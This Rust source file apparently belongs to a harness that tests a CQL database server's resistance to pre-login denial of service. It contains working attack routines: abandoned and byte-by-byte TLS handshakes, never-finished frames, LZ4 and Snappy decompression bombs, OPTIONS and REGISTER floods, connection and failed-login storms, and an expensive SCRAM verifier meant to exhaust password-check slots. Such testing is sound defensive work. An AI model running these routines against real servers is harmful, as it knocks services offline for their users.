//! CQL before login: anything that can reach the port.

use std::io::{Read, Write};
use std::time::Duration;

use wire::{Compression, Request};

use super::on_threads;
use crate::answers::{CLOSED, ServerAnswer};
use crate::attack::AttackRun;
use crate::dial::{RUDE, reset_on_close};
use crate::native::{Native, lost};
use crate::target::PASSWORD;

/// Empty event types in one REGISTER. Its body then just fits the 64 KiB accepted before login.
const EVENT_TYPES: usize = 32_766;
/// Connections that one client holds.
const HELD: usize = 1_024;
/// Threads that log in or connect. Enough to make the server the limit.
const STORMERS: usize = 16;
/// OPTIONS frames in one write: 32 KiB of frames of 9 bytes.
const OPTIONS_AT_ONCE: usize = 32 * 1024 / 9;

/// A ClientHello of TLS 1.2 and 1.3, as OpenSSL sends it.
#[rustfmt::skip]
const CLIENT_HELLO: [u8; 241] = [
    0x16, 0x03, 0x01, 0x00, 0xec, 0x01, 0x00, 0x00, 0xe8, 0x03, 0x03, 0x43, 0xf2, 0x5c, 0xe3, 0x03,
    0x9d, 0x98, 0xcd, 0x44, 0x2b, 0xe1, 0x94, 0x8a, 0x6d, 0xb8, 0xe7, 0x93, 0x9b, 0xb4, 0x3e, 0x85,
    0x12, 0x53, 0xc9, 0xe6, 0xb0, 0x10, 0x49, 0x56, 0xb1, 0x11, 0x09, 0x20, 0xf7, 0xda, 0x3d, 0xf6,
    0xef, 0xb0, 0xf6, 0x95, 0xe8, 0x5e, 0xf7, 0x36, 0x1b, 0x42, 0xf0, 0x8a, 0xfa, 0x50, 0x39, 0x28,
    0xb5, 0x2e, 0xa2, 0x40, 0xaf, 0xf3, 0x14, 0x53, 0x52, 0xa7, 0xfd, 0x0c, 0x00, 0x0a, 0x13, 0x02,
    0x13, 0x03, 0x13, 0x01, 0xc0, 0x2b, 0x00, 0xff, 0x01, 0x00, 0x00, 0x95, 0x00, 0x0b, 0x00, 0x04,
    0x03, 0x00, 0x01, 0x02, 0x00, 0x0a, 0x00, 0x16, 0x00, 0x14, 0x00, 0x1d, 0x00, 0x17, 0x00, 0x1e,
    0x00, 0x19, 0x00, 0x18, 0x01, 0x00, 0x01, 0x01, 0x01, 0x02, 0x01, 0x03, 0x01, 0x04, 0x00, 0x23,
    0x00, 0x00, 0x00, 0x16, 0x00, 0x00, 0x00, 0x17, 0x00, 0x00, 0x00, 0x0d, 0x00, 0x2a, 0x00, 0x28,
    0x04, 0x03, 0x05, 0x03, 0x06, 0x03, 0x08, 0x07, 0x08, 0x08, 0x08, 0x09, 0x08, 0x0a, 0x08, 0x0b,
    0x08, 0x04, 0x08, 0x05, 0x08, 0x06, 0x04, 0x01, 0x05, 0x01, 0x06, 0x01, 0x03, 0x03, 0x03, 0x01,
    0x03, 0x02, 0x04, 0x02, 0x05, 0x02, 0x06, 0x02, 0x00, 0x2b, 0x00, 0x05, 0x04, 0x03, 0x04, 0x03,
    0x03, 0x00, 0x2d, 0x00, 0x02, 0x01, 0x01, 0x00, 0x33, 0x00, 0x26, 0x00, 0x24, 0x00, 0x1d, 0x00,
    0x20, 0xd9, 0xf8, 0x30, 0xbd, 0xf6, 0x79, 0xe6, 0xe1, 0x3c, 0x14, 0x76, 0xd3, 0x5e, 0xb5, 0x81,
    0xf0, 0xac, 0x77, 0x36, 0x77, 0x69, 0xe2, 0xf7, 0xdc, 0x90, 0x15, 0x7d, 0xb1, 0xc2, 0x12, 0x39,
    0x1e,
];

/// Begins TLS handshakes, waits for the server's signature, and abandons them.
pub(crate) fn tls_hellos(run: &AttackRun) -> Result<(), ServerAnswer> {
    on_threads(STORMERS, |_| {
        while run.round() {
            let Ok(mut native) = Native::open(&run.target, RUDE) else { continue };
            reset_on_close(&native.stream).map_err(|error| lost(&error))?;
            let sent = native.send(&CLIENT_HELLO);
            // Read the server's part of the handshake, or an error if it accepts no TLS.
            if sent.is_ok() && !matches!(native.stream.read(&mut [0; 4096]), Ok(1..)) {
                run.record(ServerAnswer::new(CLOSED));
            }
        }
        Ok(())
    })
}

/// Sends TLS handshakes byte by byte that never end.
pub(crate) fn tls_halves(run: &AttackRun) -> Result<(), ServerAnswer> {
    let mut held = Vec::new();
    while run.round() && held.len() < HELD / 4 {
        let mut native = Native::open(&run.target, RUDE)?;
        let _ = native.send(&CLIENT_HELLO[..9]);
        held.push((native, 9));
    }
    run.hold(|| {
        held.retain_mut(|(native, sent)| {
            let next = CLIENT_HELLO.get(*sent..=*sent).unwrap_or_default();
            *sent += 1;
            *sent < CLIENT_HELLO.len() && native.send(next).is_ok()
        });
    });
    Ok(())
}

/// Sends REGISTER frames of about 290 bytes that each inflate to 64 KiB, without pause, before
/// login.
pub(crate) fn register(run: &AttackRun) -> Result<(), ServerAnswer> {
    while run.round() {
        let mut native = Native::open(&run.target, RUDE)?;
        native.start(Compression::Lz4)?;
        let frame = native.encode(0, &Request::Register(vec![""; EVENT_TYPES]));
        let mut sends = native.stream.try_clone().map_err(|error| lost(&error))?;
        std::thread::scope(|scope| {
            let sender = scope.spawn(move || {
                // Ends when the server or the reader closes the connection.
                while run.round() && sends.write_all(&frame).is_ok() {}
                drop(sends.shutdown(std::net::Shutdown::Write));
            });
            while run.count(native.answer()) {}
            drop(native.stream.shutdown(std::net::Shutdown::Both));
            drop(sender.join());
        });
    }
    Ok(())
}

/// Sends OPTIONS in bulk on many connections and never reads the answers.
pub(crate) fn options_unread(run: &AttackRun) -> Result<(), ServerAnswer> {
    let mut held = Vec::new();
    while run.round() && held.len() < HELD / 4 {
        let Ok(mut native) = Native::open_for(&run.target, RUDE, Duration::from_millis(200)) else {
            continue;
        };
        let frame = native.encode(0, &Request::Options);
        // A server that stops reading, as it should, lets this write time out.
        let _ = native.send(&frame.repeat(OPTIONS_AT_ONCE));
        held.push(native);
    }
    run.hold(|| {});
    Ok(())
}

/// Opens connections and sends nothing.
pub(crate) fn idle(run: &AttackRun) -> Result<(), ServerAnswer> {
    let mut held = Vec::new();
    while run.round() && held.len() < HELD {
        match Native::open(&run.target, RUDE) {
            Ok(native) => held.push(native),
            Err(answer) => run.record(answer),
        }
    }
    run.hold(|| {});
    Ok(())
}

/// Begins frames and never finishes them, with one more byte every 20 ms.
pub(crate) fn half_frames(run: &AttackRun) -> Result<(), ServerAnswer> {
    let mut held = Vec::new();
    while run.round() && held.len() < HELD / 4 {
        let mut native = Native::open(&run.target, RUDE)?;
        // STARTUP of protocol v4 on stream 0, whose body of 60,000 bytes never comes.
        let _ = native.send(&[4, 0, 0, 0, 1, 0, 0, 0xEA, 0x60, 0]);
        held.push(native);
    }
    run.hold(|| held.retain_mut(|native| native.send(&[0]).is_ok()));
    Ok(())
}

/// Sends bytes of other protocols, and impossible headers.
pub(crate) fn garbage(run: &AttackRun) -> Result<(), ServerAnswer> {
    const WORDS: [&[u8]; 7] = [
        b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
        // The start of a TLS handshake.
        &[0x16, 3, 1, 2, 0, 1, 0, 1, 0xFC, 3, 3, 0, 0, 0, 0, 0],
        // Protocol versions 0 and 127, and a response.
        &[0, 0, 0, 0, 5, 0, 0, 0, 0],
        &[0x7F, 0, 0, 0, 5, 0, 0, 0, 0],
        &[0x84, 0, 0, 0, 2, 0, 0, 0, 0],
        // A body of 4 GiB, and an opcode that does not exist.
        &[4, 0, 0, 0, 1, 0xFF, 0xFF, 0xFF, 0xFF],
        &[4, 0, 0, 0, 0x55, 0, 0, 0, 0],
    ];
    for n in 0.. {
        if !run.round() {
            break;
        }
        let mut native = Native::open(&run.target, RUDE)?;
        reset_on_close(&native.stream).map_err(|error| lost(&error))?;
        let _ = native.send(WORDS[n % WORDS.len()]);
        run.count(native.answer());
    }
    Ok(())
}

/// Sends compressed bodies with false lengths, and bodies that inflate to the limit.
pub(crate) fn bombs(run: &AttackRun) -> Result<(), ServerAnswer> {
    // LZ4: a length of 256 MiB over four bytes. Snappy: a length of 4 GiB over one.
    let false_lengths: [(Compression, &[u8]); 2] = [
        (Compression::Lz4, &[0x10, 0, 0, 0, 0x1F, 0, 1, 0]),
        (Compression::Snappy, &[0xFF, 0xFF, 0xFF, 0xFF, 0x0F, 0]),
    ];
    for n in 0.. {
        if !run.round() {
            break;
        }
        let (compression, body) = false_lengths[n % 2];
        let mut native = Native::open(&run.target, RUDE)?;
        reset_on_close(&native.stream).map_err(|error| lost(&error))?;
        native.start(compression)?;
        // AUTH_RESPONSE, compressed.
        let mut frame = vec![4, 1, 0, 0, 0x0F];
        frame.extend_from_slice(&(body.len() as u32).to_be_bytes());
        frame.extend_from_slice(body);
        let outcome = native.send(&frame).and_then(|()| native.answer());
        if run.count(outcome) {
            let zeros = vec![0; 60_000];
            let token = native.ask(&Request::AuthResponse(Some(&zeros)));
            run.count(token);
        }
    }
    Ok(())
}

/// Sends as many failing logins as the server accepts.
pub(crate) fn login_storm(run: &AttackRun) -> Result<(), ServerAnswer> {
    on_threads(STORMERS, |thread| {
        while run.round() {
            let outcome = Native::open(&run.target, RUDE).and_then(|mut native| {
                reset_on_close(&native.stream).map_err(|error| lost(&error))?;
                native.start(Compression::None)?;
                // Names that exist and one that does not.
                native.authenticate(["admin", "stormed", "nowhere"][thread % 3], "wrong")
            });
            run.count(outcome);
        }
        Ok(())
    })
}

/// Opens connections and closes them at once.
pub(crate) fn connect_storm(run: &AttackRun) -> Result<(), ServerAnswer> {
    on_threads(STORMERS, |_| {
        while run.round() {
            if let Ok(native) = Native::open(&run.target, RUDE) {
                reset_on_close(&native.stream).map_err(|error| lost(&error))?;
            }
        }
        Ok(())
    })
}

/// Sets a verifier for the role that is expensive to check, then fails to log in as it.
pub(crate) fn verifier(run: &AttackRun) -> Result<(), ServerAnswer> {
    let mut native = Native::open(&run.target, RUDE)?;
    native.log_in(run.role.name(), Compression::None)?;
    // 16 and 32 bytes in base64: salt, stored key, server key.
    let (salt, key) = ("AAAAAAAAAAAAAAAAAAAAAA==", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=");
    let text = format!(
        "ALTER ROLE {} WITH HASHED PASSWORD = 'SCRAM-SHA-256$1000000:{salt}${key}:{key}'",
        run.role.name()
    );
    run.count(native.query(&text));
    on_threads(STORMERS, |_| {
        while run.round() {
            let mut native = Native::open(&run.target, RUDE)?;
            native.start(Compression::None)?;
            // Do not wait for the answer, so that all slots for password checks are occupied.
            let token = format!("\0{}\0not {PASSWORD}", run.role.name());
            let frame = native.encode(0, &Request::AuthResponse(Some(token.as_bytes())));
            native.send(&frame)?;
            native.stream.set_read_timeout(Some(Duration::from_millis(40))).map_err(|error| lost(&error))?;
            match native.answer() {
                Err(answer) if answer.label != CLOSED => {}
                outcome => drop(run.count(outcome)),
            }
        }
        Ok(())
    })
}
